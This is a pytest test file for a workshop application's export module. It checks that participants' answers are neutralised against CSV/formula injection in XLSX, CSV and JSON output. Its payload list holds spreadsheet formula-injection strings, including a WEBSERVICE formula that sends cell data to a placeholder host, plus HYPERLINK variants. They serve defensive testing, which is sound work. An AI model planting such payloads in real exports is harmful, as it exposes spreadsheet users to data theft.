"""No participant's answer becomes a formula in an export (OWASP: CSV injection).

Every text-bearing exercise type of the demo workshop is answered with formulas, straight into
the store (past the forms' own checks), then exported: XLSX cells are text cells and
read back as written, CSV cells that start like a formula are quoted with ``'``, JSON is exact.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import openpyxl
import pandas as pd
import pytest

from samenspraak.catalog import load_workshop
from samenspraak.core.records import Role, Session
from samenspraak.core.store import Store
from samenspraak.render import export

FORMULAS = [
    '=HYPERLINK("http://x","klik")',
    '=WEBSERVICE("http://x/?d="&H2&H3)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=1+1;=HYPERLINK("http://x")',
    "Eerst gewoon.\n=1+1",
    "-3",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _afspraken(exercise: Any, text: str) -> dict[str, Any]:
    task = {"who": exercise.who[0], "what": text, "when": text}
    fields = ("goal", "agree", "disagree", "evaluate", "unknown")
    return {**dict.fromkeys(fields, text), "tasks": [task]}


# Per type: an answer with ``text`` in every field a participant writes in.
ANSWERS: dict[str, Callable[[Any, str], dict[str, Any]]] = {
    "open": lambda _e, text: {"text": text},
    "stelling": lambda _e, text: {"choice": "eens", "reason": text},
    "woordwolk": lambda _e, text: {"words": [text]},
    "ideeen": lambda _e, text: {"ideas": [{"id": "a1b2c3d4", "text": text}], "votes": []},
    "taalcheck": lambda _e, text: {"id": "a1b2c3d4", "text": text, "votes": []},
    "afspraken": _afspraken,
    "casus": lambda e, text: {"path": [], "debrief": {q.id: text for q in e.debrief}},
    "reflectie": lambda e, text: {"texts": {p.id: text for p in e.prompts}},
}


@dataclass
class Hostile:
    store: Store
    session: Session
    saved: dict[tuple[str, str], Any]  # (pseudonym, exercise id): the value saved
    wrote: dict[str, str]  # pseudonym: the formula that person wrote everywhere


@pytest.fixture
def hostile(store: Store) -> Hostile:
    """One participant per formula answers every text-bearing exercise with it."""
    session = store.create_session("demo", min_group_size=1)
    saved: dict[tuple[str, str], Any] = {}
    wrote: dict[str, str] = {}
    types: set[str] = set()
    for text in FORMULAS:
        person = store.join(session.code, Role.PROFESSIONAL)
        wrote[person.pseudonym] = text
        for exercise in load_workshop("demo").exercises:
            if exercise.type in ANSWERS:
                value = ANSWERS[exercise.type](exercise, text)
                store.save_answer(person, exercise.id, value)
                saved[person.pseudonym, exercise.id] = value
                types.add(exercise.type)
    assert types == set(ANSWERS)  # the demo workshop has every one of them
    return Hostile(store, session, saved, wrote)


# --- XLSX ----------------------------------------------------------------------------------


def test_xlsx_has_no_formula_and_shows_every_text_as_written(hostile):
    store, session, saved = hostile.store, hostile.session, hostile.saved
    _, _, data = export.export_bytes(store, session, "xlsx")  # as the dashboard downloads it
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)

    header, *rows = book[export.ANSWERS_SHEET].iter_rows(values_only=True)
    rows = [dict(zip(header, row, strict=True)) for row in rows]
    assert len(rows) == len(saved)
    with_text = set()
    for row in rows:
        value = saved[row["pseudonym"], row["exercise_id"]]
        assert json.loads(row["value"]) == value  # the JSON exactly
        written = hostile.wrote[row["pseudonym"]]
        if row["text"] is not None:
            with_text.add(row["exercise_type"])
            # one text a line, as the participant wrote it (trimmed, as the text column is)
            assert set(row["text"].split("\n")) <= {*written.strip().split("\n")}
            assert written.strip() in row["text"]
    assert with_text == set(ANSWERS)  # every type shows the text in the text column
    formulas = [row["text"] for row in rows if row["exercise_type"] == "open"]
    assert sorted(formulas) == sorted(text.strip() for text in FORMULAS)


def test_xlsx_files_hold_no_formula_element(hostile):
    store, session = hostile.store, hostile.session
    with zipfile.ZipFile(io.BytesIO(export.xlsx_bytes(store, session))) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        for name in book.namelist():
            if name.endswith(".xml"):
                xml = book.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ />]", xml), name
        answers = book.read(sheets[0]).decode("utf-8")
        assert "HYPERLINK(&quot;http://x&quot;" in answers or 'HYPERLINK("http://x"' in answers


def test_xlsx_keeps_a_text_a_worksheet_cannot_hold(store: Store):
    """Control characters and U+FFFF would break the export or the file: they show as
    U+FFFD; the JSON column keeps them exactly."""
    session = store.create_session("demo", min_group_size=1)
    person = store.join(session.code, Role.OUDER)
    text = "a\x01b\x1fc\uffffd\r\ne\rf"
    store.save_answer(person, "demo-open", {"text": text})
    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(store, session)))
    header, row = book[export.ANSWERS_SHEET].iter_rows(values_only=True)
    row = dict(zip(header, row, strict=True))
    assert row["text"] == "a\ufffdb\ufffdc\ufffdd\ne\nf"
    assert json.loads(row["value"]) == {"text": text}


def test_xlsx_text():
    assert (
        export.xlsx_text("a\x00b\x0bc\ud800d\ufffee\tf\r\ng")
        == "a\ufffdb\ufffdc\ufffdd\ufffde\tf\ng"
    )


# --- CSV -----------------------------------------------------------------------------------


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_never_start_like_a_formula(hostile):
    store, session, saved = hostile.store, hostile.session, hostile.saved
    _, _, data = export.export_bytes(store, session, "csv")
    header, *rows = csv_cells(data)
    assert header == export.COLUMNS
    assert len(rows) == len(saved)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    # A Dutch Excel splits on ";": no ";" anywhere, so no answer starts a cell of its own.
    assert b";" not in data
    for line in data.decode("utf-8-sig").splitlines():
        assert not any(part.startswith(FORMULA_START) for part in line.split(";")[1:])
    # The values read back exactly, ";" and all.
    for row in (dict(zip(header, row, strict=True)) for row in rows):
        assert json.loads(row["value"]) == saved[row["pseudonym"], row["exercise_id"]]


def test_csv_file_from_the_command_line_is_safe_too(hostile, tmp_path):
    store, session, saved = hostile.store, hostile.session, hostile.saved
    path = tmp_path / "export.csv"
    export.write(export.answers_frame(store, session), "csv", path)
    _, *rows = csv_cells(path.read_bytes())
    assert len(rows) == len(saved)
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x","klik")', '\'=HYPERLINK("http://x","klik")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-2", "-2"),  # a plain number: Excel reads a number, no formula
        ("-2.5e3", "-2.5e3"),
        ("Gewoon een zin = prima", "Gewoon een zin = prima"),
        ("'al veilig", "'al veilig"),
        ("", ""),
    ],
)
def test_csv_cell(text: str, safe: str):
    assert export.csv_cell(text) == safe


def test_csv_leaves_number_columns_alone():
    frame = pd.DataFrame({"round": [-2, 3], "flag": [True, False], "note": ["-2", "=1"]})
    safe = export.csv_frame(frame)
    assert safe["round"].tolist() == [-2, 3]
    assert safe["flag"].tolist() == [True, False]
    assert safe["note"].tolist() == ["-2", "'=1"]
    assert frame["note"].tolist() == ["-2", "=1"]  # the frame itself is not changed


# --- JSON ----------------------------------------------------------------------------------


def test_json_is_exact(hostile):
    store, session, saved = hostile.store, hostile.session, hostile.saved
    _, _, data = export.export_bytes(store, session, "json")
    records = json.loads(data)
    assert len(records) == len(saved)
    for record in records:
        assert json.loads(record["value"]) == saved[record["pseudonym"], record["exercise_id"]]
    opens = [json.loads(r["value"])["text"] for r in records if r["exercise_id"] == "demo-open"]
    assert sorted(opens) == sorted(FORMULAS)  # tabs, returns and all
